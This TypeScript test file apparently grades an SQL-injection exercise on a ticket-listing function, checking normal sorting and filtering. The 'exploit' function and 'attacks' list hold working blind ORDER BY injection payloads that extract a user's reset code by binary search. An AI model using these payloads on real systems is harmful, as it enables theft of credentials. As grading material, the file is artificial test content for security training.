import assert from 'node:assert/strict'
import { createPool } from '#proof/sql'

type Code = typeof import('./ticket-list.ts')

const tables = `
  CREATE TABLE tickets (id INTEGER PRIMARY KEY, team_id INTEGER, title TEXT, status TEXT, priority INTEGER, assignee TEXT, created_at TEXT);
  CREATE TABLE users (id INTEGER PRIMARY KEY, reset_code INTEGER);
  INSERT INTO users VALUES (1, 483920);`

export async function works({ listTickets }: Code) {
  const db = createPool(`${tables} INSERT INTO tickets VALUES
    (1, 4, 'Printer', 'open', 3, 'mia', '2026-01-01'), (2, 4, 'Access', 'open', 1, NULL, '2026-01-02'),
    (3, 4, 'Mail', 'closed', 2, 'mia', '2026-01-03'), (4, 5, 'Other team', 'open', 1, 'mia', '2026-01-04')`)
  const ids = async (query: Parameters<typeof listTickets>[2]) => (await listTickets(db, 4, query)).map(({ id }) => id)
  assert.deepEqual(await ids({}), [2, 1])
  assert.deepEqual(await ids({ sort: 'priority', direction: 'asc' }), [2, 1])
  assert.deepEqual(await ids({ sort: 'priority', direction: 'desc' }), [1, 2])
  assert.deepEqual(await ids({ sort: 'title', direction: 'asc', status: 'open,closed' }), [2, 3, 1])
  assert.deepEqual(await ids({ status: 'open,closed', assignee: 'mia' }), [3, 1])
  assert.deepEqual(await ids({ page: '2' }), [])
}

export async function exploit({ listTickets }: Code): Promise<boolean> {
  const db = createPool(`${tables} INSERT INTO tickets VALUES
    (1, 4, 'A', 'open', 2, NULL, '2026-01-01'), (2, 4, 'B', 'open', 2, NULL, '2026-01-01')`)
  const forms: ((expression: string) => { sort: string; direction: string })[] = [
    (expression) => ({ sort: expression, direction: 'asc' }),
    (expression) => ({ sort: 'priority', direction: `asc, ${expression}` }),
    (expression) => ({ sort: `priority", ${expression}, "id`, direction: 'asc' }),
  ]
  for (const form of forms) {
    try {
      let [low, high] = [0, 999_999]
      while (low < high) {
        const middle = Math.floor((low + high) / 2)
        const question = `(CASE WHEN (SELECT reset_code FROM users WHERE id = 1) > ${middle} THEN id ELSE -id END)`
        const [first] = await listTickets(db, 4, form(question))
        if (first?.id === 1) low = middle + 1
        else high = middle
      }
      if (low === 483_920) return true
    } catch {
      // Refused; the next form may be not.
    }
  }
  return false
}

// Attack mode: the learner writes the input.
const orderFor = async ({ listTickets }: Code, query: { sort: string; direction: string }, resetCode: number) => {
  const db = createPool(`
    CREATE TABLE tickets (id INTEGER PRIMARY KEY, team_id INTEGER, title TEXT, status TEXT, priority INTEGER, assignee TEXT, created_at TEXT);
    CREATE TABLE users (id INTEGER PRIMARY KEY, reset_code INTEGER);
    INSERT INTO users VALUES (1, ${resetCode});
    INSERT INTO tickets VALUES (1, 4, 'Printer', 'open', 3, 'mia', '2026-01-01'), (2, 4, 'Access', 'open', 1, NULL, '2026-01-02'),
      (3, 4, 'Mail', 'open', 2, 'mia', '2026-01-03'), (4, 4, 'Screen', 'open', 5, NULL, '2026-01-04'),
      (5, 4, 'Phone', 'open', 4, 'mia', '2026-01-05'), (6, 4, 'Badge', 'open', 6, NULL, '2026-01-06')`)
  return (await listTickets(db, 4, query)).map(({ id }) => id).join(', ')
}

/** The same input against databases that differ in one value only. Run twice, because `random()` reads nothing. */
export async function attack(code: Code, input: { sort: string; direction: string }, vary: import('#proof/vary').Vary) {
  const resetCodes = [vary.number(100_000, 250_000), vary.number(400_000, 600_000), vary.number(750_000, 999_999)]
  try {
    const lines: string[] = []
    const orders = new Set<string>()
    let isStable = true
    for (const resetCode of resetCodes) {
      const order = await orderFor(code, input, resetCode)
      if (order !== (await orderFor(code, input, resetCode))) isStable = false
      orders.add(order)
      lines.push(`Reset code ${resetCode}: tickets ${order}`)
    }
    return { isDone: isStable && orders.size > 1, shown: lines.join('\n') }
  } catch (error) {
    return { isDone: false, shown: String(error) }
  }
}

export const attacks = [
  { input: { sort: '(CASE WHEN (SELECT reset_code FROM users WHERE id = 1) > 300000 THEN id ELSE -id END)', direction: 'asc' }, isDone: true },
  { input: { sort: 'priority', direction: 'asc' }, isDone: false },
  { input: { sort: 'random()', direction: 'asc' }, isDone: false },
]
